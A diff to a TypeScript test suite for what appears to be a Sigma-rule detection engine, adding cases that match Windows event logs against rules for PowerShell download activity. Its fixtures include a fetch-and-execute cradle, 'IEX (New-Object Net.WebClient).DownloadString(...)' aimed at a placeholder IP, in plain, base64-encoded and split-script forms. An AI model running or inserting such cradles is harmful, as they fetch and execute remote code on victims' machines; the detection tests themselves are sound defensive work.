@@ -14,6 +14,9 @@ detection:
 level: high
 `;
 
+const UTF16 = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", 'utf16le').toString(
+  'base64',
+);
 const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
 const event = (fields: Record<string, string>, more: Partial<EventParts> = {}): PlainEvent =>
   new PlainEvent({
@@ -76,6 +79,7 @@ describe('a finding', () => {
         op: 'contains',
         pattern: 'DownloadString',
         value: script,
+        at: { start: script.indexOf('DownloadString'), end: script.indexOf('DownloadString') + 14 },
         negated: false,
         decoded: 0,
       },
@@ -94,6 +98,60 @@ test('a rule of process creations sees Security 4688', () => {
     event({ NewProcessName: 'p.exe', CommandLine: 'x.DownloadString(1)' }, { channel: 'Security', eventId: 4688 }),
   );
   expect(seen.map(({ event: { channel, eventId } }) => [channel, eventId])).toEqual([['Security', 4688]]);
+});
+
+test.each([
+  ['field', {}, event({ CommandLine: 'DownloadString' }), { via: 'field' }],
+  ['decoded', {}, event({ CommandLine: `powershell -enc ${UTF16}` }), { via: 'decoded' }],
+  ['decoded', { strict: true }, event({ CommandLine: `powershell -enc ${UTF16}` }), undefined],
+  [
+    'mapped, without the field of its filter',
+    {},
+    event({ CommandLine: 'DownloadString' }, { channel: 'Security', eventId: 4688 }),
+    { via: 'mapped:4688', degraded: ['User'], confidence: 0.5 },
+  ],
+  [
+    'mapped, with all fields',
+    {},
+    event({ CommandLine: 'DownloadString', SubjectUserName: 'bob' }, { channel: 'Security', eventId: 4688 }),
+    { via: 'mapped:4688' },
+  ],
+] as const)('%s (%j)', (_what, setup, seen, said) => {
+  const [finding] = sigma.create({ rules: [{ path: 'r.yml', text: RULE }], ...setup }).detect(seen);
+  if (said === undefined) expect(finding).toBeUndefined();
+  else {
+    expect(finding).toMatchObject(said);
+    expect('degraded' in finding!).toBe('degraded' in said);
+  }
+});
+
+describe('a script of several events', () => {
+  const SCRIPT = RULE.replace('category: process_creation', 'category: ps_script')
+    .replace('CommandLine|contains: DownloadString', "ScriptBlockText|contains|all: [Net.WebClient, 'String(']")
+    .replace('{User: backup}', '{Path: x}');
+  const part = (number: number, text: string) =>
+    event(
+      { MessageNumber: String(number), MessageTotal: '2', ScriptBlockText: text, ScriptBlockId: 'a', Path: '' },
+      { channel: 'Microsoft-Windows-PowerShell/Operational', eventId: 4104 },
+    );
+  const run = (strict: boolean): (Finding | undefined)[] => {
+    const detector = sigma.create({ rules: [{ path: 'r.yml', text: SCRIPT }], strict });
+    return [part(1, '(New-Object Net.Web'), part(2, 'Client).DownloadString(1)')].map((e) => detector.detect(e)[0]);
+  };
+
+  test('is judged whole when the last part is there', () => {
+    const [first, second] = run(false);
+    expect(first).toBeUndefined();
+    expect(second).toMatchObject({
+      via: 'extracted',
+      decoded: [{ field: 'ScriptBlockText', kind: 'joined', text: '(New-Object Net.WebClient).DownloadString(1)' }],
+      why: [{ pattern: 'Net.WebClient', decoded: 0 }, { pattern: 'String(' }, { kind: 'filter-not-held' }],
+    });
+  });
+
+  test('is not, under strict', () => {
+    expect(run(true)).toEqual([undefined, undefined]);
+  });
 });
 
 test('what has no time, and ids beyond 2^53, stay JSON', () => {
@@ -123,7 +181,7 @@ test('a long value is quoted around what was found', () => {
   if (reason.kind !== 'held') throw new Error('a filter came first');
   expect(reason.cut).toBe(true);
   expect(reason.value).toHaveLength(MAX_REASON_VALUE + 2);
-  expect(reason.value).toContain('DownloadString');
+  expect(reason.value!.slice(reason.at!.start, reason.at!.end)).toBe('DownloadString');
 });
 
 test.each([
